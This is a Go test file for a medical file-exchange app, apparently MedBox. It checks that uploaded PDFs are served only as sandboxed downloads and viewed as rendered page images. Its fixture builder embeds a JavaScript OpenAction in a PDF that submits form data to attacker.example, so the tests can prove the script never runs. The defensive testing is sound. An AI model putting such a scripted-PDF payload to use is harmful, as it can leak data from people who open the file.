package main

import (
	"bytes"
	"fmt"
	"mime"
	"net/http"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/medbox-jp/medbox/internal/sqldb/sqltest"
)

// scriptedPDF is a PDF of pages sized w x h points, each saying its number,
// that runs JavaScript when opened — what must never run in a MedBox origin.
func scriptedPDF(sizes ...[2]int) []byte {
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
		"", // the page tree, filled in below
		"<< /Type /Action /S /JavaScript /JS (app.alert\\('MedBox PDF script'\\); this.submitForm\\('https://attacker.example/'\\);) >>",
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	}
	var kids []string
	for i, sz := range sizes {
		stream := fmt.Sprintf("BT /F1 36 Tf 20 20 Td (Page %d) Tj ET 0 0.5 1 rg 0 %d %d 10 re f", i+1, sz[1]-10, sz[0])
		objs = append(objs, fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Contents %d 0 R /Resources << /Font << /F1 4 0 R >> >> >>",
			sz[0], sz[1], len(objs)+2), fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(stream), stream))
		kids = append(kids, fmt.Sprintf("%d 0 R", len(objs)-1))
	}
	objs[1] = fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", strings.Join(kids, " "), len(sizes))
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n")
	var offs []int
	for i, o := range objs {
		offs = append(offs, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, o := range offs {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
	return b.Bytes()
}

// threePages are an A4 portrait page, a landscape one and a small one.
var threePages = [][2]int{{595, 842}, {842, 595}, {200, 100}}

// TestPDFNeverInline (issue 14 §4): the content route answers a PDF — one with
// JavaScript — only as a download, whatever is asked; its pages are served as
// images rendered in the sandbox, and the viewer shows page N with the pages
// before and after it.
func TestPDFNeverInline(t *testing.T) {
	if _, err := exec.LookPath("pdftoppm"); err != nil {
		sqltest.Unavailable(t, "pdftoppm (Debian package poppler-utils) is not installed")
	}
	eachDB(t, func(t *testing.T, in *instance) {
		x := newExchange(t, in)
		pdf := x.sender.upload(x.box, "紹介状.pdf", scriptedPDF(threePages...))
		in.previewsMade()
		for _, q := range []string{"", "?inline=1", "?inline=true&disposition=inline"} {
			status, body, h := x.rcpt.do("GET", "/api/v1/files/"+pdf+"/content"+q, nil, nil)
			disp, _, _ := mime.ParseMediaType(h.Get("Content-Disposition"))
			if status != http.StatusOK || disp != "attachment" || h.Get("Content-Type") != "application/octet-stream" ||
				!strings.Contains(h.Get("Content-Security-Policy"), "sandbox") || !bytes.HasPrefix(body, []byte("%PDF")) {
				t.Errorf("content%s: %d, %q, %q, CSP %q", q, status, h.Get("Content-Disposition"), h.Get("Content-Type"), h.Get("Content-Security-Policy"))
			}
		}
		want := [][2]int{{1131, 1600}, {1600, 1131}, {1600, 800}}
		for n, w := range want {
			img := x.rcpt.jpegOf(fmt.Sprintf("/api/v1/files/%s/preview?page=%d", pdf, n+1))
			if b := img.Bounds(); b.Dx() != w[0] || b.Dy() != w[1] {
				t.Errorf("page %d is %v, want %dx%d", n+1, b, w[0], w[1])
			}
		}
		for q, status := range map[string]int{"?page=4": http.StatusNotFound, "?page=0": http.StatusBadRequest, "?page=x": http.StatusBadRequest} {
			if got, _, _ := x.rcpt.do("GET", "/api/v1/files/"+pdf+"/preview"+q, nil, nil); got != status {
				t.Errorf("preview%s: %d, want %d", q, got, status)
			}
		}
		if status, _, _ := x.outside.do("GET", "/api/v1/files/"+pdf+"/preview?page=2", nil, nil); status != http.StatusNotFound {
			t.Errorf("outsider reads a page: %d", status)
		}
		browser := webSignIn(t, in, x.rcpt)
		_, page := browser.get("/boxes/" + x.box + "/files/" + pdf + "?page=2")
		for _, s := range []string{
			`<img id="pdf-page" src="/api/v1/files/` + pdf + `/preview?page=2" width="1600" height="1131" alt="2 / 3 ページ">`,
			`href="/boxes/` + x.box + `/files/` + pdf + `?page=1#viewer-pdf"`,
			`href="/boxes/` + x.box + `/files/` + pdf + `?page=3#viewer-pdf"`,
		} {
			if !strings.Contains(page, s) {
				t.Errorf("viewer of page 2 lacks %s", s)
			}
		}
		if strings.Contains(page, "inline=1") {
			t.Error("viewer opens the PDF inline")
		}
		if _, last := browser.get("/boxes/" + x.box + "/files/" + pdf + "?page=99"); !strings.Contains(last, "preview?page=3") || strings.Contains(last, `id="pdf-next"`) {
			t.Error("a page past the end does not show the last page, or offers a next one")
		}
	})
}

// TestPDFViewerBrowser opens a PDF's viewer at 375 px: page images within the
// phone's width, turned with next and previous; the PDF's script never runs.
func TestPDFViewerBrowser(t *testing.T) {
	if _, err := exec.LookPath("pdftoppm"); err != nil {
		sqltest.Unavailable(t, "pdftoppm (Debian package poppler-utils) is not installed")
	}
	in := startInstance(t, instanceOptions{})
	x := newExchange(t, in)
	pdf := x.sender.upload(x.box, "紹介状.pdf", scriptedPDF(threePages...))
	in.previewsMade()

	b := newBrowser(t, phone)
	b.signIn(in, x.rcpt.user, x.rcpt.pass)
	b.open(in.url + "/boxes/" + x.box + "/files/" + pdf)
	shown := `(() => { const i = document.getElementById('pdf-page'); return !!i && i.complete && i.naturalWidth > 0 && i.getBoundingClientRect().width <= 375 })()`
	b.waitJS("first page shown", shown, 10*time.Second)
	if got := b.text("#pdf-page-n"); got != "1 / 3 ページ" {
		t.Errorf("page number %q", got)
	}
	b.screenshot("viewer-pdf-page1")
	b.fitsWidth("PDF viewer")
	b.do("click #pdf-next", chromedp.Click(chromedp.CSS("#pdf-next")))
	b.waitJS("second page shown", `location.search === '?page=2' && `+shown+` && document.getElementById('pdf-page').naturalWidth > document.getElementById('pdf-page').naturalHeight`, 10*time.Second)
	b.do("click #pdf-next", chromedp.Click(chromedp.CSS("#pdf-next")))
	b.waitJS("third page shown", `location.search === '?page=3' && `+shown, 10*time.Second)
	if eval[bool](b, `document.getElementById('pdf-next') !== null`) {
		t.Error("the last page offers a next page")
	}
	b.do("click #pdf-prev", chromedp.Click(chromedp.CSS("#pdf-prev")))
	b.waitJS("back to the second page", `location.search === '?page=2' && `+shown, 10*time.Second)
	b.screenshot("viewer-pdf-page2")
	if eval[bool](b, `document.querySelector('embed, object, iframe') !== null`) {
		t.Error("the viewer embeds a document")
	}
}
